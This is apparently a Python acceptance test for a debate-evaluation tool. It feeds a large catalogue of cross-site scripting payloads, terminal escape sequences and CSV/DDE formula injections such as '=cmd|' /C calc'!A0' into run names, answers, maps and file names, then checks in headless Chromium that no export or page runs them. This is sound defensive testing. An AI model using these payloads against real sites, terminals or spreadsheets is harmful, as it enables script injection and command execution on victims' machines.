#!/usr/bin/env python3
"""Hostile texts as topics, names, turns, labels and file names, in every export and page (issue 18, point 7).

More than sixty kinds of payload, each with an address of a listener, go into questions, answers, the replies of a model, names of runs, debaters
and maps, texts, ids and speakers of arguments, personas and file names. Then every export is written and every page opened in a headless
Chromium: as it is, and with its content security policy taken out, so that the encoding alone must hold. Nothing may run, nobody may be asked,
no element may be there that the payload brought. The server's answers are opened as pages too. Markdown is rendered with HTML allowed
by marked and markdown-it where `--markdown` says where they are. No output of the tool may have a control character, a bidirectional mark or a line separator; no cell of CSV may be
a formula. A control page holds the payloads bare: there they must run, or the study shows nothing.

    python3 tests/acceptance/payloads.py [--tool PATH] [--markdown FOLDER] [--keep]
"""
import argparse
import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from browser import Browser, Page, find
from common import tool_path

# {h} is the listener's address with the payload's name; a(1) stands for what a script of a payload does.
SCRIPTS = {
    "script": "<script>a(1)</script>",
    "script-src": "<script src={h}></script>",
    "script-module": "<script type=module>import '{h}'; a(1)</script>",
    "script-case": "<ScRiPt >a(1)</sCrIpT\t\n bar>",
    "script-slash": "<script/x>a(1)</script/x>",
    "script-break": "</script><script>a(1)</script>",
    "script-comment": "<!--<script>a(1)--></script><script>a(1)</script>",
    "json-break": '"}}]}}</script><script>a(1)</script>{{"x":"',
    "style-break": "</style><script>a(1)</script>",
    "title-break": "</title><script>a(1)</script>",
    "textarea-break": "</textarea><script>a(1)</script>",
    "template-break": "</template></noscript></iframe></xmp><script>a(1)</script>",
    "comment-break": "--><script>a(1)</script><!--",
    "comment-bang": "--!><script>a(1)</script>",
    "cdata-break": "]]><script>a(1)</script>",
    "pi-break": "?><script>a(1)</script><?x ",
    "img-onerror": "<img src=x onerror=a(1)>",
    "img-slash": "<img/src=x/onerror=a(1)>",
    "img-backtick": "<img src=`x` onerror=a(1)>",
    "img-newline": "<img src=x\nonerror\n=\na(1)\n>",
    "img-formfeed": "<img\fsrc=x\fonerror=a(1)>",
    "img-src": "<img src={h}>",
    "img-srcset": "<img srcset='{h} 1x'>",
    "svg-onload": "<svg onload=a(1)>",
    "svg-script": "<svg><script>a(1)</script></svg>",
    "svg-href": "<svg><script href={h} /></svg>",
    "svg-xlink": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><script xlink:href='{h}'></script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:a(1) /><text x=20 y=20>x</text></a></svg>",
    "svg-set": "<svg><set onbegin=a(1) attributeName=x /></svg>",
    "svg-use": "<svg><use href='{h}#x'/></svg>",
    "svg-image": "<svg><image href='{h}' /></svg>",
    "svg-foreign": "<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>parent.a(1)&lt;/script>'/></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a(1)&gt;'>",
    "noscript-mxss": "<noscript><p title='</noscript><img src=x onerror=a(1)>'>",
    "attribute-double": '" onmouseover=a(1) autofocus onfocus=a(1) x="',
    "attribute-single": "' onmouseover=a(1) autofocus tabindex=1 onfocus=a(1) x='",
    "attribute-close": "\"><img src=x onerror=a(1)>",
    "attribute-close-single": "'><img src=x onerror=a(1)>",
    "input-autofocus": "<input autofocus onfocus=a(1)>",
    "details": "<details open ontoggle=a(1)><summary>x</summary></details>",
    "video": "<video src={h} onerror=a(1)></video>",
    "audio": "<audio src={h} onerror=a(1)></audio>",
    "source": "<video><source onerror=a(1) src=x></video>",
    "body": "<body onload=a(1)>",
    "marquee": "<marquee onstart=a(1)>x</marquee>",
    "iframe": "<iframe src=javascript:parent.a(1)></iframe>",
    "iframe-src": "<iframe src={h}></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.a(1)</script>'></iframe>",
    "object": "<object data={h}></object>",
    "embed": "<embed src={h}>",
    "link-style": "<link rel=stylesheet href={h}>",
    "link-prefetch": "<link rel=prefetch href={h}><link rel=icon href={h}>",
    "style-import": "<style>@import url({h});</style>",
    "style-url": "<p style='background:url({h})'>x</p>",
    "style-rule": "}} body {{ background: url({h}) }} x {{",
    "font-face": "<style>@font-face {{ font-family: x; src: url({h}) }} p {{ font-family: x }}</style><p>x</p>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={h}'>",
    "base": "<base href={h}/>",
    "form": "<form action={h}><button autofocus>x</button></form>",
    "href-script": "<a href=javascript:a(1) id=clickme>x</a>",
    "href-tab": "<a href='jav\tascript:a(1)'>x</a>",
    "href-data": "<a href='data:text/html,<script>a(1)</script>'>x</a>",
    "entities": "&lt;img src=x onerror=a(1)&gt;",
    "entity-number": "&#60;img src=x onerror=a(1)&#62;&#x3c;script&#x3e;a(1)&#x3c;/script&#x3e;",
    "utf-7": "+ADw-script+AD4-a(1)+ADw-/script+AD4-",
    "full-width": "\uff1cscript\uff1ea(1)\uff1c/script\uff1e",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM '{h}'>]><x>&e;</x>",
    "stylesheet-pi": "<?xml-stylesheet href='{h}'?>",
    "template-literal": "${{a(1)}}`+a(1)+`",
    "mustache": "{{{{constructor.constructor('a(1)')()}}}}",
    "string-break": "');a(1);//\\');a(1);//",
    "string-break-double": "\";a(1);//",
    "line-separator": "\u2028a(1)\u2029//",
    "proto": "__proto__",
    "markdown-link": "[x](javascript:a(1)) [y]({h})",
    "markdown-image": "![x]({h}) ![y][z]\n\n[z]: {h}",
    "markdown-html": "\n\n<img src=x onerror=a(1)>\n\n```\n<script>a(1)</script>",
    "markdown-auto": "<{h}> <javascript:a(1)>",
    "markdown-table": "| a | b |\n|---|---|\n| <img src=x onerror=a(1)> | `` ` <img src=x onerror=a(1)> |",
    "mermaid": 'x"]; click a href "javascript:a(1)"; b["<img src=x onerror=a(1)>',
    "dot": 'x"]; b [URL="{h}", label=<<B>x</B>>]; c ["',
}
TERMINAL = {
    "csi": "\x1b[2J\x1b[31mred\x1b[1;1H",
    "osc-title": "\x1b]0;owned\x07",
    "osc-link": "\x1b]8;;{h}\x1b\\x\x1b]8;;\x1b\\",
    "osc-clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "apc": "\x1b_x\x1b\\\x1b^y\x1b\\",
    "open-string": "\x1b]0;never ended",
    "c1": "\x9b2J\x9d0;owned\x9c\x90x\x9c\x85",
    "bell": "\x07\x08\x08\x7f\x0b\x0c\x0e\x0f",
    "return": "seen\rover",
    "bidi": "\u202eevil\u202c\u2066x\u2069\u200f\u200e\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\U000e0041\U000e007f",
    "separators": "a\u2028b\u2029c",
    "surrogate": "a\ufffdb\ufffe",
    "nul": "a\x00b",
}
FORMULAS = {"formula-equals": "=cmd|' /C calc'!A0", "formula-plus": "+1+cmd|' /C calc'!A0", "formula-minus": "-2+3+cmd|' /C calc'!A0",
            "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0", "formula-tab": "\t=1+1", "formula-link": '=HYPERLINK("{h}","x")'}
KINDS = {**SCRIPTS, **TERMINAL, **FORMULAS}

# Before any script of a page: what a payload would call, and what the tests look at.
BEFORE = "window.__ran = []; window.a = window.alert = window.confirm = window.prompt = (...what) => { window.__ran.push(String(what)); };"
# What no page of ours has, whatever is written in it.
FOREIGN = """[...document.querySelectorAll('*')].filter(e =>
  ['IFRAME','OBJECT','EMBED','BASE','FRAME','MARQUEE','VIDEO','AUDIO','FOREIGNOBJECT','SET','ANIMATE','IMAGE','USE','MGLYPH'].includes(e.nodeName.toUpperCase())
  || e.nodeName === 'META' && /refresh/i.test(e.httpEquiv || '') || e.nodeName === 'LINK' && e.href && !e.href.startsWith('data:')
  || [...e.attributes].some(x => /^on/i.test(x.name) || /^\\s*(javascript|data:text.html)/i.test(x.value.replace(/[\\t\\n\\r]/g, '')) && /href|src|action/i.test(x.name)
    || /^(src|srcset|href|xlink:href|action|data|poster)$/i.test(x.name) && /^\\s*(https?:)?\\/\\//i.test(x.value)))
  .map(e => e.outerHTML.slice(0, 160))"""

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\U000e0000-\U000e007f]")
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


class Web:
    """A listener that notes who is asked, and a model whose replies are payloads."""

    def __init__(self):
        self.hits, web = [], self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                web.hits.append(self.path)
                self.respond(b"a(1)", "text/javascript")

            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.respond(json.dumps(web.answer(self.headers.get("X-Debate-Seat") or "", body)).encode(), "application/json")

            def respond(self, body, kind):
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.payloads = {name: text.format(h=f"{self.address}/hit/{name}") for name, text in KINDS.items()}

    def answer(self, seat, body):
        """The payload of the question that is asked, as what a seat of that name says."""
        number = re.search(r"Item (\d+):", json.dumps(body["messages"]))
        names = list(self.payloads)
        text = self.payloads[names[int(number.group(1)) % len(names)] if number else names[len(json.dumps(body)) % len(names)]]
        if seat.startswith(("moderator", "judge")):
            text = json.dumps({"preference": "Yes", "side": "Affirmative", "winner": "a", "reason": text, "answer": text, "probability": 0.5})
        return {"id": text, "object": "chat.completion", "created": 0, "model": text, "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10},
                "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text, "reasoning_content": f"thought {text}"}}]}


class Study:
    def __init__(self, tool, folder, markdown):
        self.tool, self.folder, self.markdown, self.web = tool, folder, markdown, Web()
        self.failures, self.printed, self.pages, self.cells = [], 0, 0, 0
        self.refused = {}

    def fail(self, what):
        self.failures.append(what)
        print(f"BROKEN: {what}"[:500].encode("unicode_escape").decode(), flush=True)

    def write(self, name, text):
        with open(os.path.join(self.folder, name), "w", encoding="utf-8", newline="") as file:
            file.write(text)
        return name

    def run(self, *args, out=None, codes=(0, 1, 2, 3)):
        """Runs the tool; what it prints must have no control character, unless `out` says that it is a file's content."""
        try:
            done = subprocess.run([self.tool, *args], cwd=self.folder, capture_output=True, check=False, timeout=300)
        except ValueError:
            return None
        label = " ".join(args[:3])[:80]
        for stream, what in ((done.stdout, "stdout"), (done.stderr, "stderr")):
            text = stream.decode("utf-8", "replace")
            self.printed += len(text)
            if out and what == "stdout":
                continue
            found = CONTROL.search(text)
            if found:
                self.fail(f"{what} of {label} has {found.group()!r} in {text[max(0, found.start() - 60):found.end() + 40]!r}")
        if done.returncode not in codes or b"Unhandled" in done.stderr or b"   at " in done.stderr:
            self.fail(f"{label}: exit code {done.returncode}: {done.stderr[-300:]!r}")
        if done.returncode == 2:
            self.refused[args[0]] = self.refused.get(args[0], 0) + 1
        return done

    def prepare(self):
        payloads = self.web.payloads
        self.write("debate.yaml", json.dumps({"models": {name: {"endpoint": f"{self.web.address}/v1", "model": name, "parallel": 8} for name in ("m", "n")}}))
        items = [{"id": f"k{i}", "question": f"Item {i}: {text}", "answer": text or "x", "choices": [text, f"other {text}"]} for i, text in enumerate(payloads.values())]
        self.write("q.json", json.dumps(items))
        everything = " ".join(text.replace("\x00", "") for text in payloads.values())
        done = self.run("eval", "q.json", "--protocol", "mad,direct", "--model", "m", "--id", "e", "--seed", "1", "--name", everything[:1500])
        if done.returncode == 2:
            done = self.run("eval", "q.json", "--protocol", "mad,direct", "--model", "m", "--id", "e", "--seed", "1")
        if b"e" not in self.run("ls", "-o", "json").stdout:
            sys.exit(f"no evaluation: {done.stderr[-600:]}")
        self.run("eval", "q.json", "--protocol", "direct", "--model", "n", "--id", "e2", "--seed", "1", "--name", payloads["script"])
        names = [text for text in payloads.values() if "\x00" not in text]
        spec = {"name": everything[:500], "source": {"questions": "few.json"}, "protocol": "judged", "model": "m",
                "debaters": [{"name": name[:60].strip() or "x", "model": "m", "persona": name} for name in dict.fromkeys(names)]}
        self.write("few.json", json.dumps(items[:1]))
        # Names that a rule refuses are told one by one; those that it takes make the tournament.
        taken, seen = spec["debaters"], 0
        while True:
            self.write("spec.yaml", json.dumps({**spec, "debaters": taken, "format": "swiss", "rounds": 1}))
            done = self.run("tournament", "run", "spec.yaml", "--id", "t", "--seed", "1")
            number = re.search(rb"debaters\[(\d+)\]", done.stderr)
            if done.returncode != 2 or seen > 40:
                break
            seen += 1
            if number:
                taken = [d for i, d in enumerate(taken) if i != int(number.group(1))]
            elif spec["name"] != "cup":
                spec["name"] = "cup"
            else:
                print(f"the tournament is refused: {done.stderr[-300:]!r}")
                break
        self.taken = len(taken)
        arguments = [{"id": f"a{i}", "text": text or "x", "label": text, "speaker": text} for i, text in enumerate(payloads.values())]
        edges = [[f"a{i}", f"a{i // 2}"] for i in range(1, len(arguments))]
        maps = {"plain": {"title": everything[:800], "arguments": [{"id": a["id"], "text": a["text"]} for a in arguments], "attacks": edges[::2], "supports": edges[1::2]}}
        # Some in each map as ids, and one of them as its title and name.
        for number in range(0, len(payloads), 6):
            some = list(payloads.values())[number:number + 6]
            maps[f"id{number}"] = {"title": some[0], "name": some[0], "arguments": [*({"id": text, "text": text} for text in some), {"id": "b", "text": "B."}],
                                   "attacks": [[text, "b"] for text in some], "motions": ["b"]}
        for name, graph in maps.items():
            self.write(f"map-{name}.json", json.dumps(graph))
        self.maps = list(maps)
        argdown = "\n".join(f"[a{i}]: {' '.join(text.split())}" for i, text in enumerate(payloads.values()))
        self.write("map-argdown.ad", argdown)
        self.write("map-aif.json", json.dumps({"nodes": [{"nodeID": str(i), "text": t, "type": "I"} for i, t in enumerate(payloads.values())], "edges": [],
                                               "locutions": [{"nodeID": str(i), "personID": t} for i, t in enumerate(payloads.values())],
                                               "participants": [{"participantID": t, "firstname": t, "surname": t} for t in payloads.values()]}))

    def exports(self):
        """Writes all exports; returns the names of the pages and drawings."""
        made = []
        for run_id, formats in (("e", ["json", "jsonl", "markdown", "html", "projection", "questions"]), ("e2", ["html", "markdown"]),
                                ("t", ["json", "jsonl", "markdown", "html", "projection", "games", "games-jsonl"])):
            for form in formats:
                name = f"{run_id}.{form}.{ {'html': 'html', 'markdown': 'md', 'questions': 'csv', 'games': 'csv'}.get(form, 'json')}"
                if self.run("export", run_id, "--format", form, "--out", name).returncode == 0:
                    made.append(name)
        for name in ("compared.html", "compared.md"):
            if self.run("compare", "e", "e2", "--out", name).returncode == 0:
                made.append(name)
        for file, names in (("games.csv", ["rated.html", "rated.md"]),):
            if os.path.exists(os.path.join(self.folder, "t.games.csv")):
                shutil.copy(os.path.join(self.folder, "t.games.csv"), os.path.join(self.folder, file))
                for name in names:
                    if self.run("rate", file, "--out", name).returncode == 0:
                        made.append(name)
        for graph in [f"map-{m}.json" for m in self.maps] + ["map-argdown.ad", "map-aif.json"]:
            whole = graph in ("map-plain.json", "map-argdown.ad", "map-aif.json")
            for ending in ("svg", "html") if not whole else ("svg", "html", "dot", "mmd", "yaml", "json", "ad", "xml"):
                name = f"{graph}.{ending}"
                more = ["--accepted"] if ending == "svg" and whole else []
                if self.run("graph", "export", graph, "--out", name, *more).returncode == 0:
                    made.append(name)
        self.run("graph", "export", "map-plain.json", "--format", "aif", "--out", "map.aif.json")
        self.run("graph", "explain", "map-plain.json", "-a", "a3", "--svg", "why.svg")
        self.run("contest", "map-plain.json", "--remove", "a2", "--out", "contested.html")
        return made + [n for n in ("why.svg", "contested.html") if os.path.exists(os.path.join(self.folder, n))]

    def terminal(self):
        """Every verb over what is there, and errors that repeat what was given."""
        for line in ("ls", "ls --all", "show e", "show e --rows 0", "show t", "compare e e2", "verify e", "verify t", "doctor", "rate games.csv",
                     "graph show map-plain.json", "graph show map-aif.json", "graph show map-argdown.ad", "graph accept map-plain.json -a a1",
                     "graph extensions map-plain.json", "graph strength map-plain.json", "graph explain map-plain.json -a a1", "graph explain map-plain.json -a a1 --dot",
                     "contest map-plain.json --remove a2", "show e --asked m", "show e --thoughts", "tournament run spec.yaml --dry-run", "resume e", "resume t"):
            self.run(*line.split())
        children = [r["id"] for r in json.loads(self.run("ls", "--all", "-o", "json").stdout)["items"] if r["id"].startswith("e/") and "mad" in r["id"]]
        for child in children[::8]:
            self.run("show", child, "--thoughts")
        for name in self.maps:
            self.run("graph", "show", f"map-{name}.json")
        together = {"terminal": "".join(text for name, text in self.web.payloads.items() if name in TERMINAL and "\x00" not in text),
                    "formula": "".join(text for name, text in self.web.payloads.items() if name in FORMULAS),
                    "script": self.web.payloads["script"] + self.web.payloads["attribute-close"], "csi": self.web.payloads["csi"], "tab": "\t=1+1", "line": "x\ny"}
        os.makedirs(os.path.join(self.folder, "frameworks"))
        for text in together.values():
            for args in (["show", text], ["run", "--question", "x", "--model", text], ["graph", "show", text], ["eval", text], [text], ["ls", "--search", text],
                         ["run", "--protocol", text, "--question", "q"], ["run", "--set", text, "--question", "q", "--model", "m"], ["export", "e", "--format", text],
                         ["graph", "accept", "map-plain.json", "-a", text], ["contest", "map-plain.json", "--text", f"{text}=x"], ["serve", "--limits", text],
                         ["run", "--question", text, "--model", "m", "--protocol", "direct", "--name", text], ["serve", "--cluster-certificate", text]):
                self.run(*args)
            # A file of that name, as a map, as questions and as a framework of a benchmark.
            file = text.replace("/", "\u2215")[:60]
            shutil.copy(os.path.join(self.folder, "map-id0.json"), os.path.join(self.folder, f"{file}.json"))
            self.run("graph", "show", f"{file}.json")
            self.run("graph", "export", f"{file}.json", "--out", f"{file}.svg")
            self.run("eval", f"{file}.json", "--protocol", "direct", "--model", "m")
            self.write(os.path.join("frameworks", f"{file}.af"), "p af 2\n1 2\n")
        self.run("solve", "bench", "frameworks", "--csv", "bench.csv", "--timeout", "5")
        self.run("ls")

    def tables(self):
        for name in sorted(os.listdir(self.folder)):
            if not name.endswith(".csv"):
                continue
            with open(os.path.join(self.folder, name), encoding="utf-8", newline="") as file:
                for row in csv.reader(io.StringIO(file.read())):
                    for cell in row:
                        self.cells += 1
                        if FORMULA.match(cell) and not NUMBER.match(cell):
                            self.fail(f"{name}: a cell that is a formula: {cell[:100]!r}")

    def look(self, browser, path, name):
        before = len(self.web.hits)
        page = Page(browser, path, 1400, 1000, "", BEFORE)
        try:
            # What a person would do: everything is opened and every link of the page itself is followed with the mouse.
            page.run("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.run("document.querySelectorAll('[autofocus],[tabindex]').forEach(e => e.focus && e.focus())")
            time.sleep(0.05)
            ran, foreign = page.run("window.__ran"), page.run(FOREIGN)
            asked = [f for f in page.faults if f.startswith("asked")]
            told = len(self.web.hits) - before
            self.pages += 1
            return ran or [], foreign, asked, told
        finally:
            page.close()

    def open_all(self, browser, made):
        for name in made:
            path = os.path.join(self.folder, name)
            if not name.endswith((".html", ".svg")):
                continue
            with open(path, encoding="utf-8") as file:
                text = file.read()
            bare = re.sub(r"<meta[^>]*content-security-policy[^>]*>", "", text, flags=re.IGNORECASE)
            copies = [(path, name)]
            if bare != text:
                copies.append((self.write(f"bare-{name}", bare), f"{name} without its policy"))
            if name.endswith(".svg"):
                copies.append((self.write(f"inline-{name}.html", f"<!doctype html><meta charset=utf-8><body>{text}"), f"{name} inside a page"))
            for copy, label in copies:
                self.judge(browser, os.path.join(self.folder, copy), label)

    def judge(self, browser, path, label, links=False):
        ran, foreign, asked, told = self.look(browser, path, label)
        foreign = [element for element in foreign if not (links and element.startswith('<a href="http'))]
        if ran or foreign or asked or told:
            self.fail(f"{label}: ran {ran}, foreign {foreign[:3]}, asked {asked[:3]}, {told} requests at the listener")

    def rendered(self, browser, made):
        if not self.markdown:
            print("markdown: no --markdown: not rendered")
            return
        for name in [n for n in made if n.endswith(".md")]:
            for way, script in (("marked", "require('marked').marked.parse(text)"), ("markdown-it", "require('markdown-it')({html:true,linkify:false}).render(text)")):
                done = subprocess.run(["node", "-e", f"const text = require('fs').readFileSync({json.dumps(os.path.join(self.folder, name))}, 'utf8'); process.stdout.write({script})"],
                                      cwd=self.markdown, capture_output=True, text=True, check=False)
                if done.returncode:
                    self.fail(f"{way} cannot render {name}: {done.stderr[-300:]}")
                    continue
                target = self.write(f"{name}.{way}.html", f"<!doctype html><meta charset=utf-8><body>{done.stdout}")
                # GitHub's Markdown makes a link of any address in a text: it asks nobody until somebody follows it.
                self.judge(browser, os.path.join(self.folder, target), f"{name} rendered by {way}", links=True)

    def control(self, browser):
        """The payloads bare, each in a page of its own: the study can see them run."""
        ran = asked = foreign = 0
        for name, text in self.web.payloads.items():
            path = self.write(f"control-{name}.html", f"<!doctype html><meta charset=utf-8><body>{text}")
            seen = self.look(browser, os.path.join(self.folder, path), name)
            ran, asked, foreign = ran + bool(seen[0]), asked + bool(seen[2] or seen[3]), foreign + bool(seen[1])
        print(f"control: of {len(self.web.payloads)} payloads, bare in a page, {ran} ran, {asked} asked the listener, {foreign} were foreign elements", flush=True)
        if ran < 20 or asked < 10 or foreign < 30:
            self.fail("the control page shows too little")

    def served(self, browser):
        """The answers of a server over the same folder, opened as pages."""
        url = os.path.join(self.folder, ".debate", "url")
        with open(os.path.join(self.folder, "serve.log"), "wb") as log:
            process = subprocess.Popen([self.tool, "serve", "--urls", "http://127.0.0.1:0"], cwd=self.folder, stdout=log, stderr=log)
        try:
            until = time.monotonic() + 180
            while not os.path.exists(url) and process.poll() is None and time.monotonic() < until:
                time.sleep(0.1)
            with open(url, encoding="ascii") as file:
                address = file.read().strip()
            ids = [r["id"] for r in json.load(urllib.request.urlopen(f"{address}/v1/runs?children=true", timeout=60))["items"]]
            paths = ["/v1/runs", "/v1/runs?children=true", "/v1/models", "/dashboard/", "/v1/runs/t/standings", "/health/ready"]
            for run_id in ids[:40]:
                at = f"/v1/runs/{urllib.parse.quote(run_id, safe='')}"
                paths += [at, f"{at}/summary", f"{at}/entries"]
            for text in self.web.payloads.values():
                # The web server itself takes no NUL in a path.
                quoted = urllib.parse.quote(text.replace("\x00", ""), safe="")
                paths += [f"/v1/runs/{quoted}", f"/v1/runs?under={quoted}", f"/v1/runs/e/entries?from={quoted}", f"/{quoted}", f"/v1/episodes/{quoted}?shape={quoted}"]
            for path in paths:
                try:
                    with urllib.request.urlopen(address + path, timeout=60) as reply:
                        head = reply.headers
                except urllib.error.HTTPError as error:
                    head = error.headers
                if "html" in (head.get("Content-Type") or "") and not path.startswith("/dashboard") or head.get("X-Content-Type-Options") != "nosniff":
                    self.fail(f"{path}: {head.get('Content-Type')}, {head.get('X-Content-Type-Options')}")
            for path in [*paths[:5], *paths[6:9], *paths[-5 * len(self.web.payloads)::7]]:
                before = len(self.web.hits)
                page = Page(browser, address + path, 1200, 900, "", BEFORE)
                ran, asked = page.run("window.__ran"), [f for f in page.faults if f.startswith("asked") and address not in f]
                page.close()
                self.pages += 1
                if ran or asked or len(self.web.hits) > before:
                    self.fail(f"{path} as a page: ran {ran}, asked {asked}")
        finally:
            process.send_signal(signal.SIGTERM)
            process.wait(120)
        with open(os.path.join(self.folder, "serve.log"), encoding="utf-8") as log:
            found = CONTROL.search(log.read())
        if found:
            self.fail(f"the server's log has {found.group()!r}")

    def work(self):
        began = time.monotonic()
        self.prepare()
        print(f"prepared: {len(KINDS)} kinds of payload; {self.taken} names of debaters were taken; {time.monotonic() - began:.0f} s", flush=True)
        self.terminal()
        made = self.exports()
        self.tables()
        print(f"{self.printed} characters printed, {self.cells} cells of CSV looked at; refused with a word: {sum(self.refused.values())} commands", flush=True)
        with Browser() as browser:
            self.control(browser)
            self.open_all(browser, made)
            self.rendered(browser, made)
            self.served(browser)
        print(f"{self.pages} pages opened ({len(made)} exports), {time.monotonic() - began:.0f} s, {len(self.failures)} faults")
        return 1 if self.failures else 0


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--tool", default=tool_path())
    parser.add_argument("--markdown", help="a folder with node_modules of marked and markdown-it, which render Markdown with HTML allowed")
    parser.add_argument("--keep", action="store_true", help="keep the folder with the exports")
    options = parser.parse_args()
    if not find():
        print("payloads: Chromium is needed (apt-get install chromium, or DEBATE_CHROMIUM)")
        return 77
    folder = tempfile.mkdtemp(prefix="debate-payloads-")
    try:
        return Study(os.path.abspath(options.tool), folder, options.markdown).work()
    finally:
        if options.keep:
            print(f"in {folder}")
        else:
            shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
